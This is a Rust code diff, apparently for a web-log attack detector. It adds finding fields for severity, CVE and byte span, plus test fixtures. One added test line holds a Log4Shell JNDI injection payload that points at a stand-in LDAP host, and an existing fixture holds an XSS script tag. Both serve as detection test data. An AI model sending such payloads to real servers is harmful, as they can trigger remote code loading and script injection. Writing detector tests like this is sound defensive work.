@@ -162,11 +162,14 @@ fields! {
     "attack.findings.rule" Keyword "Id of a rule that matched.",
     "attack.findings.category" Keyword "The rule's category.",
     "attack.findings.confidence" Keyword "How sure the rule is: `low`, `medium` or `high`.",
+    "attack.findings.severity" Keyword "How bad it is when it works: `low`, `medium`, `high` or `critical`.",
+    "attack.findings.cve" [Keyword] "The vulnerabilities that the rule is about, such as `CVE-2021-44228`.",
     "attack.findings.score" Long "The rule's own score, 1 to 100.",
     "attack.findings.field" Keyword "The part of the request in which it matched, such as `url.query`.",
     "attack.findings.parameter" Keyword "The query's parameter in which it matched.",
     "attack.findings.layer" Long "How often the value was decoded before it matched, 0 to 3.",
     "attack.findings.excerpt" Keyword "The decoded text around the match, at most 120 characters.",
+    "attack.findings.span" [Long] "From which to which byte of `event.original` it lies; of a value that had to be decoded, all of it.",
 
     "twosec.life" Keyword "The run of bytes that the line is of, whatever its file is called by now.",
     "twosec.offset" Long "Where the line begins in its life, in bytes.",
@@ -423,6 +426,7 @@ mod tests {
         );
         let xss = format!(r#"{access}/?q=<script>alert(1)</script> HTTP/1.1" 200 5 "-" "-""#);
         let shop = r#"www.example.co.uk:443 10.0.0.1 - - [16/Nov/2026:08:00:25 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1""#;
+        let log4shell = format!("{access}/?q=${{jndi:ldap://x.example/a}} HTTP/1.1\" 200 5 \"-\" \"-\"");
         let php = r"[php:error] [pid 788:tid 789] [client 192.0.2.7:263] PHP Fatal error:  Uncaught E in /a.php:2\nStack trace:\n#0 {main}\n  thrown in /a.php on line 2";
         let coded = r"[core:notice] [pid 788] AH00094: Command line: '/usr/sbin/apache2'";
         let modsecurity =
@@ -430,6 +434,7 @@ mod tests {
         let events = [
             event("auto", &whole),
             event("auto", &xss),
+            event("auto", &log4shell),
             event("auto", "odd"),
             event("auto", &format!("{error}{php}")),
             event("auto", &format!("{error}{coded}")),
